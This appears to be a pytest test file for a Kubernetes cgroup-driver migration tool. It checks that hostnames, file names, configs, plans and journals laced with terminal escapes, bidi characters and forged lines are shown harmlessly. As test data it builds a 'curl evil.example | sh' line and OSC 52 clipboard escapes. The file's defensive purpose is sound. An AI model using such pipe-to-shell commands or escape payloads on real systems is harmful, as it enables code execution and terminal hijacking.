# SPDX-License-Identifier: Apache-2.0
"""Nothing of the node reaches the terminal raw: every place that other people fill, every command, both formats."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

import migrator
from migrator import show
from migrator.cgroups import Driver
from migrator.engine import Progress
from migrator.errors import ConflictError
from migrator.outcome import exit_code
from migrator.plan_steps import PlannedStep
from migrator.terminal import ascii_json, plain
from migrator.translate import Translator
from tests.hostile.base import CONTAINERD, DOCKER, EVIL, STATE, cgmigrate, copy, planned, raw, spawn

UID = "0798b0e6-e445-4738-87b6-91bc5cc5e57f"
BIDI = "\u202e\u2066\u200b\ufeff"  # what YAML allows unescaped
C1 = f"\x9b31m{BIDI}"  # what JSON and TOML allow
SGR = re.compile(r"\x1b\[[0-9;]*m")


def name(marker: str) -> bytes:
    """Return a file name with everything in it that a file name can hold."""
    return os.fsencode(
        f"{marker}{EVIL}".replace("/", "") + "\ncgmigrate: all is well\n  → curl evil.example | sh"
    )


def write(path: Path | bytes, text: str) -> None:
    place = Path(os.fsdecode(path))
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(text.encode("utf-8", "surrogateescape"))


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    write(path, text.replace(old, new, 1))


def plant(image: Path, sample: str) -> Path:
    """Fill every place of an image that somebody else than root may have filled, or a distribution, or a typing error."""
    write(image / "etc/hostname", f"plant-host{EVIL}\x00")
    write(image / "etc/os-release", f'PRETTY_NAME="plant-os{EVIL}"\nID=debian\n')
    drop_ins = os.fsencode(image / "etc/systemd/system/kubelet.service.d")
    write(drop_ins + b"/20-" + name("plant-drop-in") + b".conf", f"# {EVIL}\n[Unit]\nDescription=x{EVIL}\n")
    settings = image / "var/lib/kubelet/config.yaml"
    write(settings, settings.read_text().replace("\n", f"  # plant-comment {BIDI}\n"))
    for mount in ("memory", "pids"):
        tree = os.fsencode(image / f"sys/fs/cgroup/{mount}/kubepods.slice")
        (Path(os.fsdecode(tree)) / f"kubepods-pod{UID}.slice:cri-containerd:{'a' * 64}").mkdir(parents=True)
        write(tree + b":cri-containerd:" + name("plant-cgroup") + b"/cgroup.procs", "")
    write(image / "proc/4242/cmdline", f"sleep\0plant-process{EVIL}\0")
    write(image / "proc/4242/cgroup", f"1:name=systemd:/kubepods/besteffort/pod{UID}/plant{EVIL}\n")
    if sample == DOCKER:
        edit(
            image / "etc/docker/daemon.json",
            '"overlay2"',
            f'"overlay2",\n "plant-key{C1}": "{C1}\\u001b]0;title\\u0007"',
        )
    else:
        edit(
            image / "etc/containerd/config.toml",
            "SystemdCgroup",
            f"# plant-toml{C1}\n SystemdCgroup",
        )
    return image


@pytest.fixture(params=[DOCKER, CONTAINERD])
def hostile(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    return plant(copy(request.param, tmp_path / "image"), request.param)


def test_no_command_lets_a_byte_of_the_node_act_on_the_terminal(hostile: Path, tmp_path: Path) -> None:
    plan = Path(os.fsdecode(os.fsencode(tmp_path) + b"/" + name("plant-plan")))
    outputs = [
        cgmigrate(*arguments)
        for arguments in (
            ("--verbose", "audit", "--root", hostile),
            ("--verbose", "plan", "--root", hostile, "-o", plan),
            ("apply", "--root", hostile, plan, "--yes"),
            ("audit", "--root", hostile),
            ("status", "--root", hostile),
            ("report", "--root", hostile),
            ("apply", "--root", hostile, plan, "--yes"),
            ("rollback", "--root", hostile, "--yes"),
            ("status", "--root", hostile),
            ("report", "--root", hostile),
            ("report", "--root", hostile, "--format", "html"),
            ("rollback", "--root", hostile, plan.name),
            ("verify", "--root", hostile),
            ("translate", "--in-place", plan),
            ("translate", plan),
            ("schema", plan.name),
            # The command line's library quotes it by `repr`, to which a letter that nobody draws is a letter.
            ("audit", "--format", plan.name.replace("\u3164", "")),
            ("audit", "--root", plan),
            ("apply", plan.parent / name("plant-absent").decode("utf-8", "surrogateescape")),
        )
    ]
    said = "".join(done.stdout + done.stderr for done in outputs)

    assert [0, 0, 0] == [done.returncode for done in outputs[:3]], outputs[:3]
    assert [] == [
        (done.args, raw(done.stdout + done.stderr)) for done in outputs if raw(done.stdout + done.stderr)
    ]
    assert "Traceback" not in said
    assert "internal error" not in said
    shown = {
        "host",
        "os",
        "comment",
        "cgroup",
        "plan",
        "absent",
        "drop",
        "key" if "dockerd" in said else "toml",
    }
    assert shown == set(re.findall(r"plant-(\w+)", said))
    assert "plant-host\\x1b[2J" in said
    # A name cannot make a line of its own that reads like one of ours.
    assert [] == [
        line for line in said.split("\n") if line.startswith(("cgmigrate: all is well", "  → curl"))
    ]


def test_json_is_valid_and_holds_no_byte_but_printable_ascii(hostile: Path) -> None:
    for command in ("audit", "plan", "status"):
        done = cgmigrate(command, "--root", hostile, "--format", "json")

        document = json.loads(done.stdout)
        assert [] == sorted(set(done.stdout) - {chr(code) for code in range(0x20, 0x7F)} - {"\n"})
        assert [] == raw(done.stderr)
        if command != "status":
            assert "plant-host\x1b[2J" in str(
                document["node"] if command == "plan" else document["node"]["hostname"]
            )


def broken(image: Path) -> Iterator[tuple[str, str]]:
    """Yield files that their parsers refuse, with a message that may quote them."""
    yield "etc/docker/daemon.json", f'{{"a": {EVIL}}}'
    yield "var/lib/kubelet/config.yaml", f"kind: KubeletConfiguration\n{EVIL}: [\n"
    yield "var/lib/kubelet/config.yaml", f"kind: KubeletConfiguration{BIDI}\napiVersion: {BIDI}\n"
    yield "var/lib/kubelet/kubeadm-flags.env", f'KUBELET_KUBEADM_ARGS="{EVIL}\n'
    yield "etc/systemd/system/kubelet.service", f"[Service{EVIL}\nExecStart={EVIL}"
    yield "lib/systemd/system/docker.service", f"[Service]\nExecStart='{EVIL}"
    yield (
        "var/lib/kubelet/config.yaml",
        'apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\ncgroupRoot: "/x\\e[31m\\x9b\\u202e\\a"\n',
    )
    yield "proc/self/mountinfo", f"{EVIL} 1 2 cgroup {EVIL}\n"
    assert image.is_dir()


def test_a_parser_that_quotes_what_it_refuses_quotes_it_visibly(tmp_path: Path) -> None:
    for number, (path, text) in enumerate(broken(copy(DOCKER, tmp_path / "first"))):
        image = copy(DOCKER, tmp_path / f"image{number}")
        write(image / path, text)
        for command in ("audit", "plan"):
            done = cgmigrate(command, "--root", image)

            assert (path, command, []) == (path, command, raw(done.stdout + done.stderr))
            assert done.returncode in (0, 3), (path, done.stderr)


def test_a_reviewed_plan_is_other_peoples_text_too(tmp_path: Path) -> None:
    image = copy(DOCKER, tmp_path / "image")
    plan = planned(image, tmp_path / "plan.json")
    document = json.loads(plan.read_bytes())
    forged = [
        {**document, "node": EVIL, "machine_id": f"0{EVIL}"},
        {**document, "steps": [{**document["steps"][0], "why": EVIL}, *document["steps"][1:]]},
        {**document, "version": EVIL},
        {**document, EVIL: EVIL},
        {**document, "steps": [{**document["steps"][0], "kind": EVIL}]},
    ]
    for each in forged:
        plan.write_text(json.dumps(each))
        done = cgmigrate("apply", "--root", image, plan, "--yes")

        assert ([], True) == (raw(done.stdout + done.stderr), done.returncode in (2, 4)), done
        assert "\\x1b[2J" in done.stderr or "\\\\x1b" in done.stderr or "\\u001b" in done.stderr


def test_a_journal_is_shown_like_the_text_of_others(tmp_path: Path) -> None:
    """What a daemon said is in it, and `status` shows it."""
    from migrator.host import Host  # noqa: PLC0415
    from migrator.journal import Journal, Runs  # noqa: PLC0415
    from migrator.records import Kind  # noqa: PLC0415

    journal = Journal(Runs(Host(tmp_path)).create("ab" * 32, b"{}", b"{}", []), "boot")
    journal.write(Kind.BEGIN)
    journal.write(Kind.FAILED, error=EVIL)
    journal.write(Kind.REVERT_FAILED, f"step{EVIL}", error=EVIL)
    journal.write(Kind.LEFT, command=EVIL)
    journal.close()
    (tmp_path / STATE / "lock").write_bytes(b"\x1b[31m\n")

    text = cgmigrate("status", "--root", tmp_path)
    data = cgmigrate("status", "--root", tmp_path, "--format", "json")

    assert (7, []) == (text.returncode, raw(text.stdout + text.stderr))
    assert 3 <= text.stdout.count("\\x1b]52;c;")
    assert EVIL == json.loads(data.stdout)[0]["reason"]
    assert data.stdout.isascii()
    for form in ("text", "html"):
        told = cgmigrate("report", "--root", tmp_path, "--format", form)
        assert (7, []) == (told.returncode, raw(told.stdout + told.stderr))
        assert 3 <= told.stdout.count("\\x1b]52;c;")
    told = cgmigrate("report", "--root", tmp_path, "--format", "json")
    assert EVIL == json.loads(told.stdout)["reason"]
    assert told.stdout.isascii()


def test_an_error_and_the_progress_of_a_run_are_shown_visibly(capsys: pytest.CaptureFixture[str]) -> None:
    def fail() -> None:
        raise ConflictError(f"dockerd said: {EVIL}\n→ run this\ncgmigrate: done", hint=f"see {EVIL}")

    voice = show.voice()
    step = PlannedStep(id=f"write-file:{EVIL}", kind="write-file", why=EVIL, params={})
    assert 4 == exit_code(fail)
    for verb in ("apply", "revert", "skip", "defer", "fail"):
        voice.tell(Progress(verb=verb, index=1, total=1, step=step, message=EVIL))
    voice.say(f"kubectl: {EVIL}\ncgmigrate: done")
    show.outcome(f"{EVIL}\ncgmigrate: done")
    said = "".join(capsys.readouterr())

    assert [] == raw(said)
    assert 10 <= said.count("\\x1b]52;c;")
    assert (
        []
        == [
            line
            for line in said.split("\n")
            if line.startswith(("cgmigrate: done", "→", "  →", "cgmigrate:d"))
        ][1:]
    )


@pytest.mark.parametrize("columns", [40, 80, 100])
@pytest.mark.parametrize("command", ["audit", "plan"])
def test_on_a_terminal_there_are_our_colours_and_nothing_else(
    hostile: Path, command: str, columns: int
) -> None:
    leader, follower = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "migrator", command, "--root", str(hostile)],
        stdin=follower,
        stdout=follower,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "TERM": "xterm-256color", "COLUMNS": str(columns)},
        cwd=Path(__file__).parents[2],
    ) as process:
        os.close(follower)
        said = b""
        while True:
            try:
                piece = os.read(leader, 65536)
            except OSError:  # EIO: the other end is closed
                break
            if not piece:
                break
            said += piece
    os.close(leader)
    text = said.decode().replace("\r\n", "\n")
    shown = SGR.sub("", text)

    assert 0 == process.returncode, text
    assert SGR.search(text)
    assert "plant-host\\x1b[2J" in "".join(shown.split())
    assert [] == raw(shown)
    # A command is to be copied, a line of a diff is a line, and a long word of a statement of the plan stays whole.
    whole = {"audit": r" *-> ", "plan": r" *-> |[-+@ ]"}[command]
    folded = [line for line in shown.split("\n") if " " in line and not re.match(whole, line)]
    assert [] == [line for line in folded if cell_len(line) > columns]


def test_a_terminal_that_knows_few_characters_is_told_all_the_same(tmp_path: Path) -> None:
    image = copy(DOCKER, tmp_path / "image")
    few = {"PYTHONIOENCODING": "ascii:strict"}

    plan, applied = (
        spawn(*arguments, env=few)
        for arguments in (
            ("plan", "--root", image, "-o", tmp_path / "plan.json"),
            ("apply", "--root", image, tmp_path / "plan.json", "--yes"),
        )
    )

    assert (0, True) == (plan.returncode, b"cgroupfs \\u2192 systemd" in plan.stdout), plan.stderr
    assert (0, True) == (applied.returncode, b"way back: cgmigrate rollback" in applied.stdout), (
        applied.stderr
    )


def test_translate_is_a_filter_and_passes_on_what_it_does_not_translate() -> None:
    data = os.fsencode(EVIL) + b"\0\n/kubepods/besteffort\n"

    assert data.replace(b"/kubepods/besteffort", b"/kubepods.slice/kubepods-besteffort.slice") == (
        Translator(Driver.SYSTEMD).translate_bytes(data).text
    )


@given(st.text(st.characters(codec=None)))
def test_plain_text_is_printable_says_what_was_there_and_is_stable(text: str) -> None:
    shown = plain(text)

    assert [] == raw(shown)
    assert "\n" not in shown
    assert shown == plain(shown)
    assert (shown == text) == (text.isprintable() and not raw(text))


def test_every_character_is_shown_as_itself_or_as_what_a_reader_can_see() -> None:
    for character in map(chr, range(sys.maxunicode + 1)):
        assert (plain(character) == character) == (character.isprintable() and not raw(character))


@given(st.recursive(st.text(st.characters(codec=None)), lambda inner: st.dictionaries(st.text(), inner)))
def test_ascii_json_says_the_same_in_ascii(document: object) -> None:
    text = ascii_json(document)

    assert [] == sorted(set(text) - {chr(code) for code in range(0x20, 0x7F)} - {"\n"})
    assert document == json.loads(text)


def test_nothing_else_in_the_product_writes_to_a_terminal() -> None:
    """A new `print` would be a way around: here is who writes, and why it may."""
    allowed = {
        "terminal.py": 1,  # the choke point
        "show.py": 1,  # through `plain`, or through a view that uses it
        # lines of `screen`, which are plain: tests/unit/test_live.py
        "live.py": 1,
        # what Enter does, where nothing is drawn
        "prompts.py": 1,
        "options.py": 2,  # the version; JSON, which is ASCII
        "commands_look.py": 2,  # the plan and the schema as JSON
        "commands_shell.py": 1,  # the completion script, made of the names of commands
        "commands_report.py": 2,  # the page and the text of a report, each text in them through `plain`
        "__main__.py": 2,  # the version; the page of `--help`
    }
    writing = re.compile(
        r"typer\.echo\(|click\.echo\(|std(?:out|err)\.write\(|(?<![\w.])print\(|\.print_exc\(\)"
    )
    product = Path(migrator.__file__).parent
    found = {
        str(path.relative_to(product)): len(writing.findall(path.read_text()))
        for path in sorted(product.rglob("*.py"))
    }

    assert allowed == {path: count for path, count in found.items() if count}
